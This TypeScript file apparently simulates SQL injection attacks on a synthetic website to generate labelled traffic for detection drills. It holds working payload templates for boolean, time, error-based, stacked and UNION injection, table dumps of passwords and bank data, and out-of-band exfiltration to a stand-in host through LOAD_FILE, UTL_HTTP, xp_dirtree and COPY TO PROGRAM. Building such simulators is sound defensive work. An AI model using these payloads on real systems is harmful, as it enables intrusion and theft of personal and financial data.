import { SECOND } from '../../base/index.ts';
import type { Call, Client, Injected } from '../exchange.ts';
import { type Grammar, grammarOf } from '../injection/dialect.ts';
import { booleanCall, createRun, errorCall, errorChunk, type Point, type Run, stackedCall, timeCall, unionCall } from '../injection/payload.ts';
import { plainEnough, type Question, readValue, type Wanted } from '../injection/reading.ts';
import type { Handle, Row } from '../tables.ts';
import { type Act, haste, intruder, type Plot, send, together } from './plot.ts';

/** What an injection goes for: columns of the first rows of a table in the order of one of them. */
export type Target = { readonly table: Handle; readonly columns: readonly string[]; readonly order: string; readonly rows: readonly Row[] };

const favourites: readonly (readonly [string, string, readonly string[]])[] = [
  ['bank_accounts', 'id', ['account_no', 'holder_kana', 'bank_code']],
  ['customers', 'policy_no', ['policy_no', 'name', 'phone']],
  ['agents', 'login', ['login', 'password', 'license_id']],
  ['claims', 'accident_no', ['accident_no', 'paid_amount']],
  ['customers', 'id', ['name', 'dob', 'email']],
  ['victims', 'id', ['name', 'phone']],
];

export function pickTarget(plot: Plot, count: number, which?: string): Target {
  const { random, site } = plot;
  const fit = favourites.filter(f => (which === undefined || f[0] === which) && site.world.tables[f[0]]!.rows.length > 0);
  const [name, order, columns] = random.pick(fit);
  const table = site.world.tables[name]!;
  return { table, order, columns, rows: table.ordered(order).slice(0, count) };
}

/** A word that finds rows, for the page that answers yes and no; or the number of a quote. */
function baseFor(plot: Plot, point: Point): string {
  const quotes = plot.site.world.tables['quotes']!;
  const row = plot.random.pick(quotes.rows.filter(r => r[quotes.column('status_public')] === 't'));
  if (point === 'status') return row[0]!;
  // A search word must occur in the name as it is stored: never across a space, never half a character.
  const first = row[quotes.column('name')]!.split(/[\s　]+/).find(part => part !== '') ?? '';
  return [...first].slice(0, 2).join('');
}

function prepare(plot: Plot, phase: string): { client: Client; run: Run; grammar: Grammar } {
  const grammar = grammarOf(plot.dialect);
  const point: Point = plot.site.style.bodies || plot.random.chance(0.7) ? 'search' : 'status';
  return { grammar, client: intruder(plot, phase), run: createRun(plot, grammar, point, baseFor(plot, point)) };
}

/** Try the parameter: a plain request, a broken one, two that tell true from false. */
function* probe(plot: Plot, client: Client, run: Run, ask: (q: Question) => Call): Act {
  const { site, random } = plot;
  yield* send(client, run.point === 'search' ? site.search(run.base) : site.status(run.base), 0);
  const broken = `${run.base}'"${random.text(5)}`;
  const near = site.syntaxError(run.point === 'search' ? `"${broken.slice(broken.indexOf('"') + 1)}` : `'"${broken.slice(broken.indexOf('"') + 1)}`);
  yield* send(client, run.point === 'search' ? site.search(broken, near) : site.status(broken, near), haste(random, 300_000));
  for (let i = 0; i < 3; i++) {
    const a = random.int(10, 99);
    const b = a + random.int(1, 9);
    yield* send(client, ask({ text: `${a}=${a}`, holds: true }), haste(random, 200_000));
    yield* send(client, ask({ text: `${a}=${b}`, holds: false }), haste(random, 200_000));
  }
}

/** Go for tables and columns that are not there: the database refuses, nothing comes back. */
function* failedAttempts(plot: Plot, client: Client, run: Run): Act {
  const { site, random } = plot;
  const g = run.grammar;
  for (const [table, column] of random
    .shuffle<[string, string]>([
      ['users', 'password'],
      ['customers', 'my_number'],
      ['members', 'card_number'],
    ])
    .slice(0, random.int(1, 3))) {
    const message =
      plot.dialect === 'mysql'
        ? table === 'customers'
          ? `Unknown column '${column}' in 'field list'`
          : `Table 'quote.${table}' doesn't exist`
        : table === 'customers'
          ? `column "${column}" does not exist`
          : `relation "public.${table}" does not exist`;
    const refused: Injected = { does: 'error', state: table === 'customers' ? '42703' : '42P01', message, visible: false, atParse: true };
    const condition = `${g.code(g.nth(column, table, column, 0), 1)}>64`;
    const text = run.point === 'search' ? `${run.base}%' AND ${condition} AND '${run.literal}%'='${run.literal}` : `${run.base} AND ${condition}`;
    yield* send(client, run.point === 'search' ? site.search(text, refused, run.base) : site.status(text, refused, run.base), haste(random, 400_000));
  }
}

/** Read the target cell by cell through yes and no. `letter` names the technique in truth/extracted. */
function* readTarget(plot: Plot, target: Target, letter: string, clients: readonly Client[], run: Run, ask: (q: Question) => Call): Act {
  const { random, truth } = plot;
  const g = run.grammar;
  const learned: (string | null)[][] = target.rows.map(() => target.columns.map(() => null));
  const met = new Map<string, string[]>();
  const keyed = random.chance(0.3) && target.table.types[0] === 'int';
  const given = plot.interrupted ? random.int(1, Math.max(1, target.rows.length * target.columns.length - 2)) : null;
  const jobs = target.rows.flatMap((row, r) => target.columns.map((column, c) => ({ row, r, column, c })));

  /** Null when the reading was given up after `stopAt` questions. */
  function* ask1(client: Client, wanted: Wanted, known: readonly string[], stopAt: number | null = null): Act<string | null> {
    const strategy = plot.strategy === 'prefix' && !plainEnough(wanted.value) ? 'bisection' : plot.strategy;
    const reading = readValue(wanted, { grammar: g, strategy, tamper: plot.tamper, random, met: known });
    let step = reading.next();
    for (let n = 0; !step.done; n++) {
      if (stopAt !== null && n >= stopAt) return null;
      yield* send(client, ask(step.value), haste(random, 4_000));
      step = reading.next(step.value.holds);
    }
    return step.value;
  }
  function* worker(client: Client): Act {
    for (let job = jobs.shift(); job; job = jobs.shift()) {
      const { row, r, column, c } = job;
      const value = row[target.table.column(column)] ?? null;
      const text = keyed ? g.keyed(column, target.table.name, target.table.key, row[0]!) : g.nth(column, target.table.name, target.order, r);
      const seen = met.get(column) ?? [];
      const guess = seen.length > 1 && new Set(seen).size < seen.length ? [...new Set(seen)] : [];
      const stopAt = given !== null && r * target.columns.length + c >= given ? random.int(2, 9) : null;
      const read = yield* ask1(client, { text, value: value ?? ' ' }, guess, stopAt);
      if (read === null) {
        jobs.length = 0;
        truth.partial(target.table.name, row[0]!, column);
        return;
      }
      if (read !== (value ?? ' ')) throw new Error(`the drill misread a cell: strategy ${plot.strategy}, dialect ${plot.dialect}`);
      seen.push(read);
      met.set(column, seen);
      learned[r]![c] = value;
      truth.give(target.table, row[0]!, [column], plot.play.now(), `${letter}:${r}`, 'extracted');
    }
  }
  if (plot.outOfBand) yield* sendAway(plot, clients[0]!, run);
  if (random.chance(0.4)) yield* failedAttempts(plot, clients[0]!, run);
  if (random.chance(0.4)) {
    const names = Object.keys(plot.site.world.tables).sort();
    yield* ask1(clients[0]!, { text: g.catalogue(null, 0), value: plot.dialect === 'oracle' ? names[0]!.toUpperCase() : names[0]! }, []);
  }
  yield* ask1(clients[0]!, { text: g.count(target.table.name), value: String(target.table.rows.length) }, []);
  if (clients.length === 1) yield* worker(clients[0]!);
  else yield* together(plot, clients.map(worker));
  if (given !== null) return;
  for (const values of learned) truth.extracted(letter, target.table.name, target.columns, values);
}

function* blind(plot: Plot, phase: string, letter: string, rows: number, make: (plot: Plot, run: Run, q: Question) => Call, which?: string): Act {
  const { client, run } = prepare(plot, phase);
  const ask = (q: Question): Call => make(plot, run, q);
  yield* probe(plot, client, run, ask);
  const others = Array.from({ length: plot.threads - 1 }, () =>
    plot.random.chance(0.5) && !plot.sharedAddress ? intruder(plot, phase, { userAgent: client.userAgent }) : { ...client },
  );
  yield* readTarget(plot, pickTarget(plot, rows, which), letter, [client, ...others], run, ask);
  plot.truth.phase(phase).success = true;
}

export const booleanInjection = (plot: Plot, which?: string): Act => blind(plot, 'sqli-boolean', 'B', plot.targetRows, booleanCall, which);
export const timeInjection = (plot: Plot, which?: string): Act => blind(plot, 'sqli-time', 'T', Math.max(1, Math.ceil(plot.targetRows / 4)), timeCall, which);
export const stackedInjection = (plot: Plot, which?: string): Act =>
  blind(plot, 'sqli-stacked', 'S', Math.max(1, Math.ceil(plot.targetRows / 4)), stackedCall, which);

/** One cell a request, in the text of an error message. Falls back to yes and no where the product has no such message. */
export function* errorInjection(plot: Plot, which?: string): Act {
  if (plot.dialect === 'sqlite') return yield* booleanInjection(plot, which);
  const phase = 'sqli-error';
  const { client, run, grammar: g } = prepare(plot, phase);
  const target = pickTarget(plot, plot.targetRows * 4, which);
  yield* probe(plot, client, run, q => booleanCall(plot, run, q));
  const size = errorChunk(g);
  for (const [k, row] of target.rows.entries()) {
    for (const column of target.columns) {
      const value = row[target.table.column(column)] ?? ' ';
      const text = g.nth(column, target.table.name, target.order, k);
      const chars = [...value];
      for (let at = 0; at === 0 || at < chars.length; at += size || chars.length || 1) {
        const part = size ? chars.slice(at, at + size).join('') : value;
        yield* send(client, errorCall(plot, run, size ? `MID(${text},${at + 1},${size})` : text, part)!, haste(plot.random, 15_000));
      }
      plot.truth.give(target.table, row[0]!, [column], plot.play.now(), `E:${k}`, 'extracted');
    }
    plot.truth.extracted(
      'E',
      target.table.name,
      target.columns,
      target.columns.map(c => row[target.table.column(c)] ?? null),
    );
  }
  plot.truth.phase(phase).success = true;
}

/** Rows of another table shown in the page: one a request, in windows, or all at once. */
export function* unionInjection(plot: Plot, which?: string): Act {
  const { random } = plot;
  const { client, run, grammar: g } = prepare(plot, 'sqli-union');
  const target = pickTarget(plot, random.pick([20, 60, 1_000_000]), which ?? random.pick(['agents', 'customers', 'bank_accounts']));
  if (plot.knowsWidth) yield* send(client, run.point === 'search' ? plot.site.search(run.base) : plot.site.status(run.base), 0);
  else yield* findWidth(plot, client, run);
  if (random.chance(0.5)) yield* failedAttempts(plot, client, run);
  if (plot.oneShot) {
    yield* unionAtOnce(plot, client, run, { ...target, rows: target.table.rows });
    plot.truth.phase('sqli-union').success = true;
    return;
  }
  const whole = target.rows.length === target.table.rows.length;
  const canCut = g.name === 'postgresql' || g.name === 'mysql' || g.name === 'sqlite';
  const read = canCut ? target : { ...target, rows: target.table.rows };
  yield* unionRows(plot, client, run, read, whole || !canCut ? read.rows.length : random.pick([1, 20]), SECOND / 2);
  plot.truth.phase('sqli-union').success = true;
}

/** Whole tables by UNION in windows, night after night. */
export function* unionDump(plot: Plot, names: readonly string[], window: number, between: (table: string) => Act): Act {
  const { random, site } = plot;
  const { client, run } = prepare(plot, 'sqli-union');
  yield* findWidth(plot, client, run);
  for (const name of names) {
    const table = site.world.tables[name]!;
    yield* unionRows(
      plot,
      client,
      run,
      { table, columns: table.columns, order: table.key, rows: table.ordered(table.key) },
      window,
      random.int(2, 20) * SECOND,
    );
    yield* between(name);
  }
  plot.truth.phase('sqli-union').success = true;
}

/** Try the parameter, then how many columns the application's own statement has. */
function* findWidth(plot: Plot, client: Client, run: Run): Act {
  const { random, site } = plot;
  yield* probe(plot, client, run, q => booleanCall(plot, run, q));
  for (let n = 1; n < (run.point === 'search' ? 4 : 3); n++) {
    const nulls = Array.from({ length: n }, () => 'NULL').join(',');
    const text = `${run.point === 'search' ? `${run.base}'` : run.base} UNION ALL SELECT ${nulls}${run.grammar.comment}${random.text(4)}`;
    const wrong = { does: 'error', state: '42601', message: 'each UNION query must have the same number of columns', visible: false, atParse: true } as const;
    yield* send(client, run.point === 'search' ? site.search(text, wrong, run.base) : site.status(text, wrong, run.base), haste(random, 200_000));
  }
}

/** The rows as one text of an aggregate function, in the answer to one request. */
function* unionAtOnce(plot: Plot, client: Client, found: Run, target: Target): Act {
  const { random } = plot;
  const run: Run = found.point === 'search' ? { ...found, base: random.text(5, 'xyzq') } : found;
  const { grammar: g } = run;
  const between = random.text(6, 'bcdfgh');
  const at = target.columns.map(c => target.table.column(c));
  const gap = g.literal(between);
  const row = g.join(target.columns.flatMap((c, i) => [...(i ? [gap] : []), g.wrap(c)]));
  const texts = target.rows.map(r => at.map(i => r[i] ?? ' ').join(between));
  const from = ` FROM ${qualify(g, target.table.name)}`;
  const parts = (inner: string): string => g.join([g.literal(run.open), inner, g.literal(run.close)]);
  const forms: Record<Grammar['name'], readonly [expression: string, from: string, text: string]> = {
    postgresql: [parts(`(SELECT STRING_AGG(${row},CHR(10))${from})`), '', texts.join('\n')],
    mysql: [parts(`JSON_ARRAYAGG(${row})`), from, `[${texts.map(t => JSON.stringify(t)).join(', ')}]`],
    mssql: [parts(`(SELECT STRING_AGG(CAST(${row} AS NVARCHAR(MAX)),CHAR(10))${from})`), '', texts.join('\n')],
    oracle: [parts(`(SELECT LISTAGG(${row},CHR(10)) WITHIN GROUP (ORDER BY 1)${from})`), ' FROM DUAL', texts.join('\n')],
    sqlite: [parts(`JSON_GROUP_ARRAY(${row})`), from, `[${texts.map(t => JSON.stringify(t)).join(',')}]`],
  };
  const [expression, tail, text] = forms[g.name];
  yield* send(
    client,
    unionCall(plot, run, expression, tail, [`${run.open}${text}${run.close}`], { table: target.table, rows: target.rows, columns: target.columns }),
    haste(random, SECOND),
  );
  for (const r of target.rows)
    plot.truth.extracted(
      'U',
      target.table.name,
      target.columns,
      at.map(i => r[i] ?? null),
    );
}

const qualify = (g: Grammar, name: string): string =>
  ({ postgresql: `public.${name}`, mssql: `quote.dbo.${name}`, oracle: `QUOTE.${name.toUpperCase()}`, mysql: `quote.${name}`, sqlite: name })[g.name];

/** Values sent away by name server or web request: the site answers as always, and what went out nobody here can see. */
function* sendAway(plot: Plot, client: Client, run: Run): Act {
  const { random, site } = plot;
  const g = run.grammar;
  const zone = `${random.text(8)}.oob.example.net`;
  const cell = g.nth('password', 'agents', 'login', 0);
  const inline: Partial<Record<Grammar['name'], string>> = {
    mysql: `LOAD_FILE(${g.join([g.literal('\\\\'), `HEX(${cell})`, g.literal(`.${zone}\\a`)])}) IS NOT NULL`,
    oracle: `UTL_HTTP.REQUEST('http://${zone}/'||${cell}) IS NOT NULL`,
  };
  const second: Partial<Record<Grammar['name'], string>> = {
    mssql: `DECLARE @h VARCHAR(1024);SET @h='\\\\'+${cell}+'.${zone}\\a';EXEC master..xp_dirtree @h`,
    postgresql: `COPY (SELECT ${cell}) TO PROGRAM 'nslookup -type=txt x.${zone}'`,
  };
  const a = inline[g.name];
  const b = second[g.name];
  for (let i = 0; i < 3; i++) {
    const text = a
      ? run.point === 'search'
        ? `${run.base}%' AND ${a} AND '${run.literal}%'='${run.literal}`
        : `${run.base} AND ${a}`
      : b
        ? `${run.base}${run.point === 'search' ? "%'" : ''};${b}${run.grammar.comment}${random.text(4)}`
        : null;
    if (text === null) return;
    const nothing: Injected = { does: 'filter', holds: false };
    yield* send(client, run.point === 'search' ? site.search(text, nothing, run.base) : site.status(text, nothing, run.base), haste(random, 400_000));
  }
}

/** Show the target's rows, `step` a request: the whole table without a window when it fits. */
function* unionRows(plot: Plot, client: Client, found: Run, target: Target, step: number, pace: number): Act {
  const { random } = plot;
  const run: Run = found.point === 'search' ? { ...found, base: random.text(5, 'xyzq') } : found;
  const { grammar: g } = run;
  const between = random.text(6, 'bcdfgh');
  const gap = g.literal(between);
  const parts = [g.literal(run.open), ...target.columns.flatMap((c, i) => [...(i ? [gap] : []), g.wrap(c)]), g.literal(run.close)];
  const at = target.columns.map(c => target.table.column(c));
  const line = (row: Row): string => `${run.open}${at.map(i => row[i] ?? ' ').join(between)}${run.close}`;
  const { name } = target.table;
  const qualified = qualify(g, name);
  const whole = step >= target.table.rows.length;
  for (let first = 0; first < target.rows.length; first += step) {
    const chunk = target.rows.slice(first, first + step);
    const from = whole
      ? ` FROM ${qualified}`
      : ` FROM (SELECT ${target.columns.join(',')} FROM ${qualified} ORDER BY ${target.order} LIMIT ${step} OFFSET ${first}) AS ${run.open}`;
    yield* send(
      client,
      unionCall(plot, run, g.join(parts), from, chunk.map(line), { table: target.table, rows: chunk, columns: target.columns }),
      haste(random, pace),
    );
    for (const row of chunk)
      plot.truth.extracted(
        'U',
        name,
        target.columns,
        at.map(i => row[i] ?? null),
      );
  }
}
